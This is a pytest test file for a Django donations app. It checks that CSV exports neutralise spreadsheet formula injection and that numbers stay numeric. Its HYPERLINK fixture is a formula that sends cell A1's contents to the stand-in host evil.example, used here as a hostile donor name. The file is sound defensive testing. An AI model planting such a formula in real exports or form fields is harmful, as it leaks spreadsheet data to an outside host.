"""Every CSV nkhr_donations writes defuses spreadsheet formulas; numbers stay
numbers (see nkhr_donations/csv_export.py)."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from nkhr_donations.csv_export import csv_text, escape_cell
from nkhr_donations.models import Donation
from nkhr_donations.receipts import annual_receipts_csv
from nkhr_donations.services import transition

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+82 10 1234", "'+82 10 1234"),
        ("-5", "'-5"),  # text that only looks like a number is still text
        ("-Kim", "'-Kim"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Kim = Lee", "Kim = Lee"),
        ("김민지", "김민지"),
        ("", ""),
        (None, ""),
        (Decimal("-5.00"), Decimal("-5.00")),
        (-5, -5),
        (2025, 2025),
        (True, "True"),
    ],
)
def test_escape_cell(value, expected):
    assert escape_cell(value) == expected


def test_numbers_are_written_as_numbers_and_text_is_quoted():
    text = csv_text([["-Kim", Decimal("-5.00"), 3, "=1+1"]])
    assert text == '"\'-Kim",-5.00,3,"\'=1+1"\r\n'


@pytest.mark.django_db
def test_donations_report_csv_escapes_what_donors_typed(
    client, finance_user, make_donation
):
    donation = make_donation(
        donor_name=HYPERLINK,
        donor_email="+1@example.org",
        amount_minor=2550,
        currency="USD",
    )
    make_donation(donor_name="-Kim Min-ji", amount_minor=30000)
    transition(donation.pk, "succeeded", source="test")
    client.force_login(finance_user)
    response = client.get(reverse("nkhr_donations_admin:report") + "?export=csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = {row["Reference"]: row for row in csv.DictReader(io.StringIO(body))}
    row = rows[donation.reference_code]
    assert row["Donor name"] == "'" + HYPERLINK
    assert row["Donor email"] == "'+1@example.org"
    assert row["Amount"] == "25.50"
    assert ",25.50," in body  # a number, unquoted
    assert {r["Donor name"] for r in rows.values()} == {
        "'" + HYPERLINK,
        "'-Kim Min-ji",
    }


@pytest.mark.django_db
def test_annual_receipts_csv_escapes_what_donors_typed(make_donation):
    donation = make_donation(donor_name=HYPERLINK, wants_receipt=True)
    transition(donation.pk, "succeeded", source="test")
    when = datetime(2025, 6, 1, tzinfo=timezone.get_default_timezone())
    Donation.objects.filter(pk=donation.pk).update(confirmed_at=when)
    text = annual_receipts_csv(2025)
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["donor_name"] == "'" + HYPERLINK
    assert row["total"] == "30000"
    assert ",30000," in text
